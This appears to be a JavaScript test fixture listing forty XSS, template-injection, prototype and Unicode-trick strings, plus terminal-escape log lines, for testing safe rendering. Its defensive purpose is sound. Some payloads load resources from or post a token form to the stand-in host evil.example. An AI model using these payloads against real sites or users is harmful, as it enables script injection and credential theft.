// Forty strings of the kind that break pages: markup, script addresses, terminal and direction controls, template syntax, prototypes.
const mark = "window.kontorHacked=1";

export const hostileStrings = [
  `<script>${mark}</script>`, `<img src=x onerror="${mark}">`, `<svg onload="${mark}">`, `"><script>${mark}</script>`, `'><img src=x onerror=${mark}>`,
  `<iframe srcdoc="<script>parent.${mark}</script>">`, `<iframe src="javascript:${mark}">`, `javascript:${mark}`, `JaVaScRiPt:${mark}//`, `data:text/html,<script>${mark}</script>`,
  `<a href="javascript:${mark}">x</a>`, `<body onload=${mark}>`, `<style>@import 'http://evil.example/x.css';</style>`, `<link rel=stylesheet href=http://evil.example/x.css>`, `<meta http-equiv=refresh content="0;url=http://evil.example">`,
  `<base href="http://evil.example/">`, `<form action=http://evil.example><input name=token autofocus>`, `<object data=http://evil.example>`, `<embed src=http://evil.example>`, `<math><mtext></p><img src=x onerror=${mark}>`,
  `<template><script>${mark}</script></template>`, `</textarea><script>${mark}</script>`, `</title><script>${mark}</script>`, `<!--><script>${mark}</script>-->`, `<![CDATA[<script>${mark}</script>]]>`,
  `\${${mark}}`, `{{constructor.constructor('${mark}')()}}`, `\${{ params.note }}`, `__proto__`, `constructor`,
  `toString`, `\u202Egnp.exe`, `\u2066isolate\u2069`, `z\u0335\u0321a\u0334lgo\u0337`, `ＦＵＬＬ＜script＞`,
  `' onmouseover='${mark}`, `\`-${mark}-\``, `%3Cscript%3E${mark}%3C/script%3E`, `&lt;img src=x onerror=${mark}&gt;`, `${"A".repeat(180)}`,
];

// What only a log can hold: programs print anything.
export const hostileLogLines = [
  "\u001b[31mred\u001b[0m \u001b]8;;javascript:window.kontorHacked=1\u0007click\u001b]8;;\u0007", "\u001b]0;<script>window.kontorHacked=1</script>\u0007title",
  "\u001b[2J\u001b[H\u001b[1;1Hgone", "\u001bPq#0;2;0;0;0\u001b\\sixel", "\u009b31mc1", "bell\u0007 back\u0008\u0008 tab\t.", "\r\roverwritten", "\u001b[38;2;255;0;0mtrue\u001b[0m",
];
